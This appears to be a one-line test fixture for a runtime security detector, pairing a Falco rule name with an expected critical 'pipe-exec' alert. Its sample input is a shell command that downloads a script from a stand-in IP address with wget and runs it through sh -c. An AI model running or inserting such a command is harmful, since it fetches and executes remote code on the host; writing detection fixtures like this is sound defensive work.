# peer: falco:Decoding Payload in Container (command substitution)
# want: BD-PIPE-EXEC critical
sh -c "$(wget -q -T 2 -O- http://203.0.113.7/x 2>/dev/null || echo true)"
